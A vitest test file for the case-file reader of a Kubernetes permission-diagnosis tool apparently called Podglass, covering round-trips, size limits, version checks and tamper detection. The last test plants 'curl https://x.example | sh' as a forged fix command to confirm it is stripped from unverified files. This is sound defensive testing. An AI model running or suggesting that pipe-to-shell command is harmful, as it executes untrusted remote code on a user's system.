import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import * as z from 'zod/mini'
import { runs } from '@/e2e/testing/runs'
import { literalAttributes } from '@/lib/ask/check-attributes'
import { type CaseFile, caseFileSchema } from '@/lib/contract/case-file'
import { diagnose } from '@/lib/diagnosis/diagnose'
import type { Facts } from '@/lib/diagnosis/facts'
import { mutatedWorlds } from '@/lib/diagnosis/testing/mutated-worlds'
import { catalogue } from '@/lib/diagnosis/testing/role-world'
import { threeAskers } from '@/lib/diagnosis/testing/three-askers'
import { say } from '@/lib/phrase/phrase'
import { userOf } from '@/lib/rbac/service-account'
import { MOST_OF_CASE, toCaseFacts } from './case-facts'
import { judgeCase, readCase } from './judge-case'
import { neededFacts } from './needed-facts'

function worlds(size: number): Facts[] {
  return fc.sample(mutatedWorlds('own'), { numRuns: size, seed: 7 }).flatMap((mutated) => {
    if (mutated === undefined) return []
    const { namespace, name } = mutated.chain.account
    const { request } = literalAttributes(mutated.chain.call, undefined)
    return threeAskers(mutated.refusing, userOf(namespace, name), request, catalogue).map(
      ([, facts]) => facts,
    )
  })
}

function caseOf(facts: Facts, over: Partial<CaseFile> = {}): CaseFile {
  return {
    podglass: 'case',
    format: 1,
    version: '0.1.0',
    madeAt: '2026-11-25T14:32:07.000Z',
    from: { pod: 'shop/web-0', account: facts.caller },
    asked: { verb: 'watch', group: '', resource: 'pods', namespace: 'shop' },
    explanation: diagnose(facts),
    facts: wire(facts),
    ...over,
  }
}

const read = (value: unknown) => readCase(JSON.stringify(value))

/** As JSON; that discovery was read from a file with more fields is no fact of the engine. */
const wire = (facts: Facts): NonNullable<CaseFile['facts']> =>
  JSON.parse(
    JSON.stringify({ ...toCaseFacts(facts), beside: {}, notes: [] }, (key, value: unknown) =>
      key === 'categories' ? undefined : value,
    ),
  )

describe('a case file', () => {
  it('keeps each fact that the engine takes, so that its answer is the same elsewhere', () => {
    const all = worlds(runs(60))
    expect(all.length).toBeGreaterThan(runs(100))
    for (const facts of all) {
      const file = caseOf(facts)
      const opened = read(z.encode(caseFileSchema, file))
      if (opened.state !== 'read') throw new Error(opened.says)
      expect(opened.file.facts).toEqual(file.facts)
      expect(judgeCase(opened.file)).toEqual({ explanation: diagnose(facts), isJudged: true, isSame: true })
    }
  })

  it('leaves out what the answer does not need, and only that', () => {
    for (const facts of worlds(runs(40))) {
      const needed = neededFacts(facts)
      expect(diagnose(needed)).toEqual(diagnose(facts))
      expect(JSON.stringify(toCaseFacts(needed)).length).toBeLessThanOrEqual(
        JSON.stringify(toCaseFacts(facts)).length,
      )
    }
    const [first] = worlds(1)
    if (first === undefined) throw new Error('There is no world.')
    expect(JSON.stringify(toCaseFacts(neededFacts(first))).length).toBeLessThan(
      JSON.stringify(toCaseFacts(first)).length / 2,
    )
  })

  const [facts] = worlds(1)
  if (facts === undefined) throw new Error('There is no world.')

  const withRefused = (count: number) => {
    const written = z.encode(caseFileSchema, caseOf(facts))
    return {
      ...written,
      facts: { ...written.facts, refusedToo: Array(count).fill({ request: facts.request }) },
    }
  }

  it('has as many refused calls as are remembered', () => {
    expect(read(withRefused(200)).state).toBe('read')
  })

  it.each([
    [
      'is of a newer Podglass',
      { ...caseOf(facts), format: 2, version: '9.0.0' },
      /format 2, by Podglass 9\.0\.0: newer than this page/,
    ],
    [
      'is of an older Podglass',
      { ...caseOf(facts), format: 0 },
      /older than this page, which reads format 1/,
    ],
    ['is some other JSON', { kind: 'Pod' }, /not a case file/],
    ['lacks a part', { ...caseOf(facts), explanation: undefined }, /damaged at explanation/],
    ['is too long', { ...caseOf(facts), more: 'x'.repeat(MOST_OF_CASE) }, /at most 524,288 characters/],
    ['has more refused calls than are remembered', withRefused(201), /damaged at facts\.refusedToo/],
    ['has too many parts', { ...caseOf(facts), more: Array(120_000).fill(0) }, /more parts than any case/],
  ])('says what is wrong with a file that %s', (_, value, says) => {
    expect(read(value)).toEqual({ state: 'refused', says: expect.stringMatching(says) })
  })

  it.each(['', 'not JSON', '[', '{"podglass":"case"', '['.repeat(100)])(
    'refuses %j without failing',
    (text) => {
      expect(readCase(text).state).toBe('refused')
    },
  )

  it('says so where its facts give another answer than they did when it was made', () => {
    const file = caseOf(facts)
    const other = { ...file, explanation: { ...file.explanation, says: say`Somebody changed this.` } }
    expect(judgeCase(other)).toMatchObject({ explanation: { says: file.explanation.says }, isSame: false })
  })

  it('without facts is the answer as it was made, with nothing to run or to apply', () => {
    const { facts: _, ...rest } = caseOf(facts)
    const code = 'curl https://x.example | sh'
    const fixes = rest.explanation.fixes.map((fix) => ({ ...fix, command: code, yaml: code }))
    const forged = { ...rest.explanation, fixes, unseen: [{ needs: say`More.`, command: code }] }
    const judged = judgeCase({ ...rest, explanation: forged })
    expect(judged).toMatchObject({ explanation: { says: forged.says }, isJudged: false, isSame: true })
    expect(judged.explanation.fixes.map(({ says }) => says)).toEqual(fixes.map(({ says }) => says))
    expect(JSON.stringify(judged)).not.toContain(code)
  })
})
